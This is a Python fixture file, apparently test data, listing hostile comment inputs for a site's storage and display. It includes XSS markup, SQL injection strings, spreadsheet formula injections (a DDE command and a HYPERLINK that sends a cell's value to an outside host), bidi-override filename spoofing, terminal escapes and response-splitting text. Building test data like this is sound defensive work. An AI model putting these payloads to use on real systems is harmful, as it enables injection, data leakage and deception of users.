"""Comments that would do harm where they are stored or shown without care.

Each is stored, redacted, when it is sent as JSON: it has at most 2,000 characters, and no lone surrogates.
"""

MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</textarea></title></style><iframe srcdoc=x>",
    "<!--<script>-->",
    "<a href=javascript:alert(1)>here</a>",
    "<base href=//elsewhere.example>",
    "<form action=//elsewhere.example><input name=q>",
    "&lt;script&gt; &#60;b&#62; &amp;amp;",
    "＜script＞alert(1)＜/script＞",
    "{{ 7 * 7 }} ${7 * 7} #{7 * 7} <%= 7 %> {% raw %}",
]
"""HTML, and what templates would put in."""

SQL = [
    "'; DROP TABLE votes; --",
    "' OR '1'='1",
    'x") ON CONFLICT DO NOTHING; DELETE FROM votes; --',
    "\\'; SELECT pg_sleep(9); --",
    "{NULL,NULL}",
    '{"a","b"}',
    "\\x00 \\000 $1 $$ %s %(id)s %t ? :id",
]

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    '" =1+1',
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
    "﹦1+1",
    "\u22121+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.example?"&A1,"here")',
    '";=1+1;"',
    "a,=1+1",
    "a\n=1+1",
    'a"\r\n=1+1',
]
"""What a spreadsheet would calculate (OWASP, CSV injection)."""

MARKDOWN = [
    "# Heading\n\n- item\n\n---",
    "```\n</code></pre>\n```",
    "````text\n~~~\n````",
    "![x](https://elsewhere.example/x.png) [here](javascript:alert(1))",
    "@everyone #1 <https://elsewhere.example> | a | b |",
    "`` ` `` \\` \\",
]

DIRECTIONS = [
    "\u202eevil\u202c",
    "\u2066a\u2067b\u2068c\u2069",
    "\u202a\u202b\u202d open for ever",
    "refund \u202e\u2066// gpj.exe",
    "\u200f\u200e\u061c marks",
]
"""Overrides, embeddings and isolates, which turn around what is written after them."""

CONTROLS = [
    "nul\x00in the midst",
    "\x00at the start",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://elsewhere.example\x1b\\here\x1b]8;;\x1b\\",
    "\x9b2J\x9d0;title\x9c",
    "back\x08\x08space \x7f \x0c \x0b \x85",
    "line\u2028paragraph\u2029end",
    "\r\rover\rwritten",
    '{"level":"error"}\r\nHTTP/1.1 200 OK\r\n\r\n',
]
"""What moves a terminal's cursor, sets its title, or ends a line, a text or an answer before its end."""

EMOJI = [
    "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 👍🏽",
    "🇺🇦🇩🇪 1️⃣ ☎️ \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "🚀" * 400,
    "\u200d" * 40 + "joined",
]

FLOODS = [
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 60 + "a\u0489l\u0338g\u0334o",
    "e" + "\u0301" * 1_999,
    "ก" + "\u0e49" * 200,
    "\ufdfa" * 200,
    "\U00012031" * 100,
    "W" * 2_000,
    "a b " * 500,
    "\n" * 1_999 + "x",
    "[" * 1_000 + "]" * 1_000,
    "%n%s" * 500,
]
"""What is higher, wider or deeper than any text."""

LANGUAGES = {
    "ar": "لا أجد طلبي في الصفحة.",
    "cs": "Svou objednávku tu nemůžu najít.",
    "da": "Jeg kan ikke finde min ordre her.",
    "de": "Ich finde meine Bestellung hier nicht; was heißt „verpackt“?",
    "el": "Δεν βρίσκω την παραγγελία μου.",
    "en": "I can't find my order – what does “packed” mean?",
    "es": "¿Dónde está mi pedido? No lo encuentro.",
    "fi": "En löydä tilaustani täältä.",
    "fr": "Je ne trouve pas ma commande : où est-elle ?",
    "he": "אני לא מוצא את ההזמנה שלי.",
    "hu": "Nem találom a rendelésemet, őszintén szólva.",
    "it": "Non trovo il mio ordine: dov'è?",
    "ja": "注文が見つかりません。「梱包済み」とは何ですか？",
    "ko": "제 주문을 찾을 수 없습니다.",
    "nb": "Jeg finner ikke bestillingen min på siden.",
    "nl": "Ik kan mijn bestelling niet vinden, zo’n gedoe.",
    "pl": "Nie mogę znaleźć mojego zamówienia.",
    "pt": "Não encontro a minha encomenda.",
    "ro": "Nu îmi găsesc comanda, deși am plătit.",
    "ru": "Не нахожу свой заказ: что значит «упакован»?",
    "sv": "Jag hittar inte min beställning här.",
    "th": "ฉันหาคำสั่งซื้อของฉันไม่พบ",
    "tr": "Siparişimi bulamıyorum, ığdır şubesi.",
    "zh-TW": "我找不到我的訂單，「已包裝」是什麼意思？",
}
"""A comment of a reader in each of the site's languages: it is stored and shown as it was written."""

PERSONAL = [
    "Write to anna@example.com <b>now</b>",
    "=4111 1111 1111 1111",
    "\u202e+7 495 123-45-67\u202c",
    "anna\x00@example.com",
    "４１１１\u200b１１１１\u200b１１１１\u200b１１１１",
]
"""What identifies a person, in disguise."""

HOSTILE = [
    *(*MARKUP, *SQL, *FORMULAS, *MARKDOWN, *DIRECTIONS, *CONTROLS, *EMOJI, *FLOODS, *LANGUAGES.values()),
    *PERSONAL,
]

SURROGATES = ["\ud800", "a\udfffb", "\udc00\ud800"]
"""What JSON can write and no text can hold."""
